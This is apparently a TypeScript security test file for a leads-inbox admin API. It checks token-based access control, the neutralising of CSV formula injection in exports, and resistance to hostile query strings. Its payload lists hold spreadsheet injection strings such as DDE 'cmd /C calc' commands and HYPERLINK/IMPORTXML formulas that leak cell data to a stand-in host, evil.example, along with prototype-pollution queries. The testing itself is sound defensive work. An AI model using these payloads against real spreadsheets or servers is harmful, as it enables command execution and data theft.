import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { csvCell, LEAD_CSV_COLUMNS } from '@gear/contract/leads-admin';
import { ADMIN_MESSAGES } from '@gear/contract/messages';
import { fileSizeText, quoteLineText } from '@gear/contract/quotes';
import { tokenOf } from '../src/test-utils/bodies.ts';
import { ADMIN, startTestApp, type TestApp } from '../src/test-utils/test-app.ts';
import { listRoutes } from '../src/test-utils/route-table.ts';
import { adminClaims, appSecret } from '../src/test-utils/tokens.ts';
import { recordFigures } from './figures.ts';

/**
 * The leads inbox (issue 7): visitors' names, e-mails and phones are readable by the admin only,
 * every read route included (the mounted operations are listed, so a new one cannot slip through); the
 * CSV export never hands a spreadsheet a formula, whatever a visitor typed into a public form;
 * hostile query strings get a 400, never a 5xx.
 */

const FILE = 'leads.security.test.ts';
const HUMAN = { website: '', elapsedMs: 15_000 };
const SECRET_EMAIL = 'private.visitor@example.com';
/** A minimal ASCII DXF drawing. */
const DXF = Buffer.from('  0\nSECTION\n  2\nENTITIES\n  0\nENDSEC\n  0\nEOF\n', 'latin1');

/** RFC 4180 reader (quoted cells with doubled quotes and line breaks), for checking the export. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text.charAt(i);
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) throw new Error('The CSV does not end with CRLF.');
  return rows;
}

let t: TestApp;
let auth: { Authorization: string };

beforeAll(async () => {
  t = await startTestApp({ FORM_RATE_LIMIT: '0' });
  auth = { Authorization: `Bearer ${await t.token()}` };
  await t
    .api()
    .post('/api/contact')
    .send({
      name: 'Private Visitor',
      email: SECRET_EMAIL,
      phone: '+91 98765 43210',
      message: 'Please call me.',
      ...HUMAN,
    })
    .expect(200);
  await t.handle.tasks.idle();
});
afterAll(() => t.destroy());

describe('the leads inbox is readable by the admin only', () => {
  it('every /api/leads route (every mounted operation) → 401 for no, garbage, foreign, expired and revoked tokens; no lead data in the answer', async () => {
    const routes = listRoutes(t.handle.app).filter((route) => route.path.startsWith('/api/leads'));
    const names = routes.map((route) => `${route.method} ${route.path}`).sort();
    expect(names).toEqual(
      [
        'GET /api/leads',
        'GET /api/leads/summary',
        'GET /api/leads/export.csv',
        'PATCH /api/leads/:id',
        'POST /api/leads/:id/resend',
        // Issue 19: deleting a lead, and a quote request's drawings.
        'DELETE /api/leads/:id',
        'GET /api/leads/:id/attachments/:attachmentId',
      ].sort(),
    );

    const key = await appSecret(t);
    const now = Math.floor(Date.now() / 1000);
    const revoked = tokenOf(
      await t.api().post('/logAdmin').set('X-Forwarded-For', '10.55.0.1').send(ADMIN).expect(200),
    );
    await t.api().get('/api/leads/summary').set('Authorization', `Bearer ${revoked}`).expect(200);
    await t.api().post('/logout').set('Authorization', `Bearer ${revoked}`).send({}).expect(200);
    const tokens: Record<string, string | null> = {
      'no token': null,
      garbage: 'Bearer not.a.token',
      'basic auth': `Basic ${Buffer.from(`${ADMIN.username}:${ADMIN.password}`).toString('base64')}`,
      'token in the wrong scheme': `Token ${revoked}`,
      expired: `Bearer ${await adminClaims('expired-lead')
        .setIssuedAt(now - 3 * 3600)
        .setExpirationTime(now - 60)
        .sign(key)}`,
      'another secret': `Bearer ${await adminClaims('other-lead')
        .setIssuedAt()
        .setExpirationTime('1h')
        .sign(new TextEncoder().encode('another-secret-that-is-long-enough-0123456789'))}`,
      'revoked (after /logout)': `Bearer ${revoked}`,
    };

    const dbBefore = await readFile(t.handle.paths.dbFile, 'utf8');
    const failures: string[] = [];
    let inputs = 0;
    let serverErrors = 0;
    for (const route of routes) {
      const url = route.path
        .replace(':id', '1')
        .replace(':attachmentId', '0b7f3c1e-8a2d-4c5b-9e6f-1a2b3c4d5e6f');
      for (const variant of [url, url.toUpperCase(), `${url}/`, `${url}?q=private`]) {
        for (const [kind, header] of Object.entries(tokens)) {
          inputs += 1;
          const api = t.api();
          const req =
            route.method === 'GET'
              ? api.get(variant)
              : route.method === 'DELETE'
                ? api.delete(variant)
                : route.method === 'PATCH'
                  ? api.patch(variant).send({ status: 'spam', notes: 'owned', read: true })
                  : api.post(variant).send({});
          if (header !== null) req.set('Authorization', header);
          const response = await req;
          if (response.status >= 500) serverErrors += 1;
          if (
            response.status !== 401 ||
            response.headers['www-authenticate'] !== 'Bearer' ||
            response.text.includes(SECRET_EMAIL) ||
            z.object({ error: z.string() }).parse(response.body).error !==
              ADMIN_MESSAGES.unauthorized
          ) {
            failures.push(`${route.method} ${variant} [${kind}] → ${response.status}`);
          }
        }
      }
    }
    await t.handle.tasks.idle();
    expect(failures).toEqual([]);
    expect(serverErrors).toBe(0);
    expect(await readFile(t.handle.paths.dbFile, 'utf8')).toBe(dbBefore);
    // Control: the admin does see it.
    expect((await t.api().get('/api/leads?q=private').set(auth).expect(200)).text).toContain(
      SECRET_EMAIL,
    );

    recordFigures({
      section: 'Auth',
      protection:
        'Leads inbox, reads included (every mounted operation) → 401 without a valid token',
      test: `${FILE} › every /api/leads route → 401 for no, garbage, foreign, expired and revoked tokens`,
      inputs,
      serverErrors,
      filesLeft: 0,
      writesLost: 0,
      notes: `${routes.length} routes × 4 path variants × ${Object.keys(tokens).length} token kinds; no lead data in any answer; db.json byte-identical`,
    });
  });
});

describe('the CSV export never hands a spreadsheet a formula', () => {
  it('formula payloads in every public-form field come out as text, every cell intact', async () => {
    const payloads = [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(1+1)',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
      '=DDE("cmd";"/C calc";"!A0")',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
      '\t=1+1',
      '==1',
      '="=1"',
      "'=1",
      '+',
      '-',
      '=',
      '@',
      'Meera, "the buyer"',
      'Zoë Ölund 😀',
    ];
    // Phones must look like phones; these start with the characters a spreadsheet reads as a formula.
    const phones = ['+91 98765 43210', '-98765 43210', '(0281) 2345678', '9876543210'];
    let inputs = 0;
    let serverErrors = 0;
    for (const [index, payload] of payloads.entries()) {
      const phone = phones[index % phones.length] ?? '9876543210';
      const sends = [
        t
          .api()
          .post('/api/inquiry/c')
          .send({
            name: payload,
            email: `inj${index}@example.com`,
            contact: phone,
            message: `${payload}\n=2+2`,
            ...HUMAN,
          }),
        t
          .api()
          .post('/api/contact')
          .send({
            name: `Visitor ${index}`,
            email: `c${index}@example.com`,
            phone,
            message: payload,
            ...HUMAN,
          }),
        t
          .api()
          .post('/api/send-email')
          .send({ name: payload, email: `b${index}@example.com`, contact: phone, ...HUMAN }),
        // A quote request (issue 19): company, country, a product line and a drawing's name.
        t
          .api()
          .post('/api/quote')
          .field(
            'request',
            JSON.stringify({
              name: `Buyer ${index}`,
              company: payload,
              email: `q${index}@example.com`,
              phone,
              country: payload,
              lines: [{ productId: index + 1, title: payload, quantity: 2, note: payload }],
              ...HUMAN,
            }),
          )
          .attach('drawings', DXF, {
            filename: `${payload.replace(/["\\/\t]/g, '')}.dxf`,
            contentType: 'application/octet-stream',
          })
          // The quote call answers 201 Created; the others 200.
          .then((answer) => ({ status: answer.status === 201 ? 200 : answer.status })),
      ];
      for (const send of sends) {
        inputs += 1;
        const response = await send;
        if (response.status >= 500) serverErrors += 1;
        expect.soft(response.status).toBe(200);
      }
    }
    await t.handle.tasks.idle();
    // Notes are the admin's own text, exported too.
    for (const [index, payload] of payloads.entries()) {
      inputs += 1;
      const response = await t
        .api()
        .patch(`/api/leads/${index + 2}`)
        .set(auth)
        .send({ notes: payload });
      if (response.status >= 500) serverErrors += 1;
      expect.soft(response.status).toBe(200);
    }

    const response = await t.api().get('/api/leads/export.csv').set(auth).responseType('blob');
    expect(response.status).toBe(200);
    const bytes = z.instanceof(Buffer).parse(response.body);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    const [header, ...data] = rows;
    expect(header).toEqual([...LEAD_CSV_COLUMNS]);
    const leads = [...t.handle.store.read().leads].sort((a, b) => b.id - a.id);
    expect(data).toHaveLength(leads.length);

    const risky = /^[\s]*[=+\-@\t\r]/;
    let neutralised = 0;
    const failures: string[] = [];
    data.forEach((cells, rowIndex) => {
      const lead = leads[rowIndex];
      if (!lead) return;
      const expected: (string | number | null)[] = [
        lead.id,
        lead.kind,
        lead.status,
        lead.created_at,
        lead.name,
        lead.email,
        lead.phone,
        lead.message,
        lead.quote?.company ?? '',
        lead.quote?.country ?? '',
        (lead.quote?.lines ?? []).map(quoteLineText).join('\n'),
        (lead.quote?.attachments ?? [])
          .map((drawing) => `${drawing.name} (${fileSizeText(drawing.size)})`)
          .join('\n'),
        lead.notes,
        lead.read_at,
        lead.mail_status,
        lead.mail_error,
        lead.ip,
      ];
      expect(cells).toHaveLength(LEAD_CSV_COLUMNS.length);
      cells.forEach((cell, column) => {
        const original = expected[column] ?? null;
        const text = original === null ? '' : String(original);
        // No cell a spreadsheet would evaluate: it starts with the apostrophe instead.
        if (risky.test(cell)) failures.push(`row ${rowIndex + 1} col ${column}: ${cell}`);
        if (risky.test(text)) {
          neutralised += 1;
          if (cell !== `'${text}`) failures.push(`row ${rowIndex + 1} col ${column}: ${cell}`);
        } else if (cell !== text) failures.push(`row ${rowIndex + 1} col ${column}: ${cell}`);
        // The same rule as the contract's csvCell (shared with any other exporter).
        if (csvCell(original).replace(/^"|"$/g, '').replaceAll('""', '"') !== cell)
          failures.push(`row ${rowIndex + 1} col ${column}: csvCell differs`);
      });
    });
    expect(failures).toEqual([]);
    expect(neutralised).toBeGreaterThan(payloads.length * 3);
    expect(serverErrors).toBe(0);

    recordFigures({
      section: 'Stored XSS',
      protection:
        'CSV export: cells starting with = + - @ (tab, CR, after spaces) get an apostrophe; quoted per RFC 4180',
      test: `${FILE} › formula payloads in every public-form field come out as text, every cell intact`,
      inputs,
      serverErrors,
      filesLeft: 0,
      writesLost: 0,
      notes: `${payloads.length} payloads in names, messages, phones and notes; ${data.length} rows, ${neutralised} cells neutralised, every cell read back exactly`,
    });
  });
});

describe('hostile query strings', () => {
  it('the list and the export answer 200 or a clear 400, never a 5xx', async () => {
    const queries = [
      'q[]=1',
      'q[a]=1',
      '__proto__=1',
      '__proto__[polluted]=yes',
      'constructor[prototype][polluted]=yes',
      'toString=1',
      'hasOwnProperty=1',
      'type=__proto__',
      'status=constructor',
      'page=1e309',
      'page=-0',
      'page=0x10',
      'page=9007199254740993',
      'pageSize=NaN',
      'pageSize=Infinity',
      'from=2026-13-45T99:99:99Z',
      'from=0',
      'to=2026-11-23T00:00:00.000+99:99',
      'from=2026-11-23T00:00:00Z&to=2026-11-01T00:00:00Z',
      'q=%00',
      'q=%ZZ',
      'q=%E0%A4%A',
      'q=%F0%9F%98%80',
      `q=${'%F0%9F%98%80'.repeat(101)}`,
      `q=${'a'.repeat(8000)}`,
      'q=.*',
      'q=(a%2B)%2B%24',
      `q=${'9'.repeat(100)}`,
      Array.from({ length: 200 }, (_, i) => `status=${i % 2 ? 'new' : 'spam'}`).join('&'),
      Array.from({ length: 200 }, (_, i) => `k${i}=1`).join('&'),
      '&&&==&=',
      'q',
    ];
    let inputs = 0;
    let serverErrors = 0;
    const failures: string[] = [];
    for (const path of ['/api/leads', '/api/leads/export.csv']) {
      for (const query of queries) {
        inputs += 1;
        const response = await t.api().get(`${path}?${query}`).set(auth);
        if (response.status >= 500) serverErrors += 1;
        if (response.status === 400) {
          const error = z.object({ error: z.string() }).safeParse(response.body);
          if (!error.success || !/^(Invalid|Unknown) query parameter/.test(error.data.error))
            failures.push(
              `${path}?${query.slice(0, 60)} → unclear 400 ${response.text.slice(0, 100)}`,
            );
        } else if (response.status !== 200) {
          failures.push(`${path}?${query.slice(0, 60)} → ${response.status}`);
        }
      }
    }
    expect(failures).toEqual([]);
    expect(serverErrors).toBe(0);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();

    recordFigures({
      section: 'Bodies',
      protection:
        'Leads list and export: hostile query strings → 200 or a clear 400 naming the parameter',
      test: `${FILE} › the list and the export answer 200 or a clear 400, never a 5xx`,
      inputs,
      serverErrors,
      filesLeft: 0,
      writesLost: 0,
      notes:
        'brackets, __proto__, huge numbers, bad dates, broken percent-encoding, 8 KB search, 200 repeats',
    });
  });
});
